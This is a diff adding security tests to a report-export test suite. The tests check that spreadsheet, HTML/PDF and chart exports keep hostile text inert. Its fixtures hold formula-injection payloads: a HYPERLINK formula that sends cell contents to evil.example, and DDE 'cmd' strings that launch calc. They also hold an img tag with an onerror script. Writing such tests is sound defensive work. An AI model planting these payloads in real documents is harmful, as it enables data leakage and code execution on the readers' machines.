@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import dataclasses
+import html
 import io
 import re
 import shutil
@@ -249,3 +250,68 @@ def test_an_empty_week_still_exports(demo_engine, domain_config, tmp_path):
     path.write_bytes(render_offline(report, "zh", counts, domain_config))
     text = pdf_text(path)
     assert "2026-01-05 – 2026-01-11" in text and t("no_data", "zh") in text
+
+
+# ---------------------------------------------------------------- hostile text (formulas, markup)
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?q="&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1+1", " =1+1", "＝1+1",
+)
+MARKUP = '<b>粗体</b><img src="http://evil.example/x.png" onerror="alert(1)">'
+CONTROL = "名称\x07"  # not allowed in XML: replaced, never a crash
+
+
+def hostile_report(report: weekly.WeeklyReport, texts: tuple[str, ...]) -> weekly.WeeklyReport:
+    """The report with every text of every table (and the area's name) replaced by ``texts``, in turn."""
+    def poison(frame):
+        if frame is None or frame.empty:
+            return frame
+        frame = frame.copy()
+        for column in frame.columns:
+            if frame[column].map(lambda value: isinstance(value, str)).any():
+                frame[column] = [texts[(row + len(column)) % len(texts)] if isinstance(value, str) else value
+                                 for row, value in enumerate(frame[column])]
+        return frame
+
+    tables = ("departments", "red", "black", "categories", "hot_grids", "overdue_cases", "reworked_cases", "workers")
+    area = dataclasses.replace(report.area, name=texts[0])
+    return dataclasses.replace(report, area=area, **{name: poison(getattr(report, name)) for name in tables})
+
+
+def test_spreadsheet_writes_hostile_text_as_text_never_as_a_formula(report_zh):
+    hostile = hostile_report(report_zh, FORMULAS + (MARKUP,))
+    book = openpyxl.load_workbook(io.BytesIO(exports.weekly_xlsx(hostile, "zh")))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"] == []
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    for text in FORMULAS + (MARKUP,):
+        assert text.replace("\r", "\n") in texts, text  # kept as it was (XML reads a carriage return as a line feed)
+    # Excel's quote prefix: editing such a cell keeps it text
+    assert all(cell.quotePrefix for cell in cells if cell.value in {text.replace("\r", "\n") for text in FORMULAS})
+    assert book["概要"]["A1"].value.startswith(FORMULAS[0]) and book["概要"]["A1"].data_type == "s"
+    # numbers are still numbers, negative ones too
+    categories = book["类别"]
+    columns, header = header_columns(categories)
+    changes = [categories.cell(row=header + offset, column=columns["较上周"]).value for offset in range(1, len(report_zh.categories) + 1)]
+    assert changes == list(report_zh.categories["change"]) and all(isinstance(value, (int, float)) for value in changes)
+
+
+def test_spreadsheet_survives_control_characters(report_zh):
+    book = openpyxl.load_workbook(io.BytesIO(exports.weekly_xlsx(hostile_report(report_zh, (CONTROL,)), "zh")))
+    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
+    assert "名称\ufffd" in texts
+
+
+def test_pdf_escapes_markup_in_every_table(report_zh, daily_zh):
+    hostile = hostile_report(report_zh, (MARKUP, "普通网格"))
+    page = exports.weekly_html(hostile, "zh", daily_zh)
+    assert "<b>" not in page and 'src="http://evil.example' not in page
+    assert page.count(html.escape(MARKUP)) > 10  # the title, and names in every table
+
+
+def test_pdf_charts_draw_names_as_plain_text(report_zh):
+    """Matplotlib reads ``$…$`` as TeX (a broken one fails the export); names are drawn as written."""
+    hostile = hostile_report(report_zh, (r"$\frac{1}{$", "部门$x$"))
+    svg = exports.scores_chart_svg(hostile, "zh")
+    assert r"$\frac{1}{$" in html.unescape(svg) and "部门$x$" in html.unescape(svg)
